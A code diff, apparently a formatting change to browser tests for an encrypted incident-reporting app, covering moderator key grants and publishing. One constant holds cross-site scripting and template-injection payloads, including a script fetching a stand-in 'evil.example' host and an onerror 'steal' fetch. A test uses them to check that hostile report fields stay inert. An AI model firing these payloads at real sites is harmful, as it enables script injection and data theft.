@@ -100,12 +100,18 @@ class Moderator:
             p.click("#publish-form button[type=submit]")
 
 
-def test_report_to_published_incident(app: Flask, browser: Any,
-                                      all_logs: pytest.LogCaptureFixture,
-                                      database_url: str) -> None:
+def test_report_to_published_incident(
+    app: Flask, browser: Any, all_logs: pytest.LogCaptureFixture, database_url: str
+) -> None:
     with app.app_context():
-        db.session().add(Staff(login="thandi", password_hash=hash_password(PASSWORD),
-                               roles=["moderator"], provinces=["GP"]))
+        db.session().add(
+            Staff(
+                login="thandi",
+                password_hash=hash_password(PASSWORD),
+                roles=["moderator"],
+                provinces=["GP"],
+            )
+        )
         db.session().commit()
     posted = record_posts(app)
     with live_server(app) as base:
@@ -131,8 +137,9 @@ def test_report_to_published_incident(app: Flask, browser: Any,
             staff = db.session().scalars(select(Staff).where(Staff.login == "thandi")).one()
             from tests.support.staff import Member, grant
 
-            grant(app, Member(staff.id, staff.login, "", b"",
-                              envelope.b64d(staff.public_key)), "GP")
+            grant(
+                app, Member(staff.id, staff.login, "", b"", envelope.b64d(staff.public_key)), "GP"
+            )
         moderator.forgets_unlocked_keys()
 
         # When she unlocks and opens the report, she sees the narrative on her screen
@@ -164,10 +171,24 @@ def test_report_to_published_incident(app: Flask, browser: Any,
         assert set(inc.categories) == {"extortion", "confiscation"}
         assert db.session().get(Report, report_id).status == "verified"
         row = db.session().execute(select(Incident.__table__)).mappings().one()
-        assert set(row) <= {"id", "public_id", "categories", "perpetrators", "month", "province",
-                            "geom", "cell_r5", "cell_r6", "cell_r7", "verification_level",
-                            "source_type", "people_affected", "published_on", "withdrawn",
-                            "release_id"}  # which public release counted it (no report link)
+        assert set(row) <= {
+            "id",
+            "public_id",
+            "categories",
+            "perpetrators",
+            "month",
+            "province",
+            "geom",
+            "cell_r5",
+            "cell_r6",
+            "cell_r7",
+            "verification_level",
+            "source_type",
+            "people_affected",
+            "published_on",
+            "withdrawn",
+            "release_id",
+        }  # which public release counted it (no report link)
     # And neither the passphrase nor the narrative ever reached the server
     bodies = b"".join(posted.bodies)
     for secret in (SENTINEL, PASSPHRASE, "purple giraffe"):
@@ -179,8 +200,9 @@ def test_report_to_published_incident(app: Flask, browser: Any,
     assert secrets_of(app)
 
 
-def test_recovery_ceremony_and_grant_in_the_browser(app: Flask, browser: Any,
-                                                    database_url: str) -> None:
+def test_recovery_ceremony_and_grant_in_the_browser(
+    app: Flask, browser: Any, database_url: str
+) -> None:
     from tests.support.staff import PASSPHRASE as STAFF_PASSPHRASE
     from tests.support.staff import fresh_code, make_staff
 
@@ -218,8 +240,9 @@ def test_recovery_ceremony_and_grant_in_the_browser(app: Flask, browser: Any,
     from reporter.models.private import KeyGrant
 
     with app.app_context():
-        grants = db.session().scalars(select(KeyGrant).where(
-            KeyGrant.staff_id == moderator.id)).all()
+        grants = (
+            db.session().scalars(select(KeyGrant).where(KeyGrant.staff_id == moderator.id)).all()
+        )
         assert len(grants) == 1
         opened = envelope.open_envelope(grants[0].sealed_key, moderator.sk)
         assert envelope.b64d(opened["sk"]) == app.extensions["test.keys"].case_secrets["GP"]
@@ -231,9 +254,11 @@ def test_recovery_ceremony_and_grant_in_the_browser(app: Flask, browser: Any,
         assert envelope.b64e(sk) not in table_dump(database_url)
 
 
-HOSTILE = ('<script>window.__pwned=1;fetch("http://evil.example/a")</script>'
-           '<img src=x onerror="window.__pwned=2;fetch(\'/steal\')">'
-           '"><svg onload="window.__pwned=3">{{7*7}}')
+HOSTILE = (
+    '<script>window.__pwned=1;fetch("http://evil.example/a")</script>'
+    "<img src=x onerror=\"window.__pwned=2;fetch('/steal')\">"
+    '"><svg onload="window.__pwned=3">{{7*7}}'
+)
 
 
 def test_hostile_narrative_is_shown_as_text_and_runs_nothing(app: Flask, browser: Any) -> None:
@@ -244,11 +269,15 @@ def test_hostile_narrative_is_shown_as_text_and_runs_nothing(app: Flask, browser
     # Given a report whose every text field carries script payloads, with a hostile file name
     client = app.test_client()
     keys = keyring_json(client)
-    payload = browser_payload(HOSTILE, perpetrator_details=HOSTILE,
-                              place={"town_id": None, "town": HOSTILE, "text": HOSTILE},
-                              attachments=[{"index": 0, "name": HOSTILE + ".pdf",
-                                            "type": "text/html", "size": 5, "kc": "x"}],
-                              categories=[HOSTILE])
+    payload = browser_payload(
+        HOSTILE,
+        perpetrator_details=HOSTILE,
+        place={"town_id": None, "town": HOSTILE, "text": HOSTILE},
+        attachments=[
+            {"index": 0, "name": HOSTILE + ".pdf", "type": "text/html", "size": 5, "kc": "x"}
+        ],
+        categories=[HOSTILE],
+    )
     assert submit_sealed(client, envelope.seal(payload, recipients(keys))).status_code == 200
     with app.app_context():
         report_id = db.session().scalars(select(Report.id)).one()
